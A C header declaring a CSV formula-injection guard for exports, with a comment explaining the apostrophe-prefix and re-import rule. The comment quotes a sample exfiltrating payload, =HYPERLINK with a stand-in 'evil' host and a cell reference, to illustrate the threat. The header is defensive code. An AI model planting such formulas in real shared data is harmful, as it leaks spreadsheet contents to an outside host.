/*
 * csvcell.h - the spreadsheet-formula guard of every CSV the node writes
 * (CRM export, rejects files, report CSV; spec/crm.md "Formulas").
 *
 * A spreadsheet opening a CSV runs a cell that starts with =, +, -, @, a
 * tab or a CR as a formula, so a partner could put
 * =HYPERLINK("https://evil/?"&A1) into a shared field and have it run on
 * the desk of whoever opens our export. Such a cell is written with one
 * apostrophe in front, which spreadsheets show as text, and the CSV reader
 * takes exactly that apostrophe away again, so export and re-import give
 * back the same value:
 *
 *   ent_csv_formula(s): s is k >= 0 apostrophes, then a byte of
 *     "=+-@\t\r", and s without its apostrophes is not a plain decimal
 *     number (^[+-]?[0-9]+(\.[0-9]+)?$, which stays as it is: -1250.50).
 *   writer: a cell s with ent_csv_formula(s) is written as "'" + s.
 *   reader: a cell "'" + r with ent_csv_formula(r) is read as r.
 *
 * A leaf module: it depends on nothing but the C library.
 */
#ifndef ENT_CSVCELL_H
#define ENT_CSVCELL_H

#include <stdbool.h>
#include <stddef.h>

/* True if the len bytes at s must be written with a leading apostrophe. */
bool ent_csv_formula(const char *s, size_t len);

/*
 * The bytes a reader keeps of a cell: s + 1 (len - 1) when s is an
 * apostrophe followed by a guarded cell, else s itself; *len updated.
 */
const char *ent_csv_unguard(const char *s, size_t *len);

#endif
